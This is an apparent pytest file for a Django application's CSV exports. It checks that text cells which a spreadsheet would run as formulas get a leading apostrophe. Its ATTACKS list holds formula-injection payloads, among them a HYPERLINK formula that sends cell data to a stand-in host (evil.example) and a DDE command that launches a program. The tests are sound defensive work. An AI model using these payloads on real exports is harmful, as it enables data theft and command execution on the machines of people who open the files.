"""Spreadsheet exports cannot carry formulas: text cells that a spreadsheet would run get a
leading apostrophe, in every CSV the system writes."""

from __future__ import annotations

import csv
import datetime as dt
import io
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from conftest import client_for, make_user
from tsunagu.accounts.models import Role, User
from tsunagu.core.export import SafeCsvWriter, SafeDictWriter, spreadsheet_safe
from tsunagu.core.tests.downloads import ARCHIVE_PASSWORD, download_text, pairs_read
from tsunagu.people.services import PersonData, person_update
from tsunagu.people.tests.test_duplicates import make

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.fixture
def archive_key(settings: Any) -> None:
    """Exports under the city's configured key, so the test can open them."""
    settings.EXPORT_ARCHIVE_PASSWORD = ARCHIVE_PASSWORD


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_neutralised(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["佐藤 花子", "A-1", "0766-11-2222", "", 42, -3, 0.5, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_writers_neutralise_every_cell() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerows([ATTACKS, [1, -1, "ok"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in rows[0])
    assert rows[1] == ["1", "-1", "ok"]
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name"])
    writer.writeheader()
    writer.writerows([{"name": a} for a in ATTACKS])
    cells = [r["name"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert cells == ["'" + a for a in ATTACKS]


@pytest.mark.usefixtures("archive_key")
def test_find_duplicates_writes_no_formula(counselor: User, tmp_path: Path) -> None:
    for external_id, phone in (("=1+1", "0766-55-1234"), ("@A1", "0766551234")):
        make(
            counselor,
            family_name="渡辺",
            given_name="聡子",
            family_name_kana="わたなべ",
            given_name_kana="さとこ",
            birth_date=dt.date(1951, 7, 7),
            phone=phone,
            external_id=external_id,
        )
    out = tmp_path / "pairs.zip"
    call_command("find_duplicates", output=str(out), city="minami", stderr=StringIO())
    rows = pairs_read(out)
    assert rows, "the two records should pair"
    assert {rows[0]["external_id_a"], rows[0]["external_id_b"]} == {"'=1+1", "'@A1"}


def test_the_access_log_csv_writes_no_formula(counselor: User, city: object) -> None:
    from tsunagu.consultations.tests.test_pages import register_person

    person = register_person(client_for(counselor))
    data = PersonData(
        family_name="=HYPERLINK(A1)",
        given_name=person.given_name,
        family_name_kana=person.family_name_kana,
        given_name_kana=person.given_name_kana,
        birth_date=person.birth_date,
    )
    person_update(user=counselor, person=person, data=data)
    boss = make_user(city, "hokatsu-kita", Role.MANAGER, "boss")  # type: ignore[arg-type]
    export = client_for(boss).get(f"/people/{person.pk}/access-log/?format=csv")
    text = download_text(export)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=HYPERLINK(A1)" in cells  # the name, from the change history, as text
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
